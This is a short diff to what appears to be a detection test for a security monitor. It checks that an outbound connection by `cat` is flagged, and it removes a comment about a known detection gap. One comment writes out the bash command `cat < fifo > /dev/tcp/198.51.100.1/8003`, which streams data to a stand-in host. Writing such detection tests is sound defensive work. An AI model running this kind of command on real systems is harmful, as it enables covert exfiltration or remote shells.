@@ -5,7 +5,6 @@
 # expect: Outbound connection by a program that never networks
 # needs: python
 # peer: 198.51.100.1:8003
-# gap: in trace mode the sockets collector names a connection's owner from procscan's tables, which can still hold the forked python3 when cat has already exec'd (the stale-name bug in docs/coverage.md); detected in some runs, not reliably
 # What bash does for `cat < fifo > /dev/tcp/198.51.100.1/8003`: the child connects, puts the
 # socket on its stdout and execs cat, which streams what it is fed.
 python3 -c '
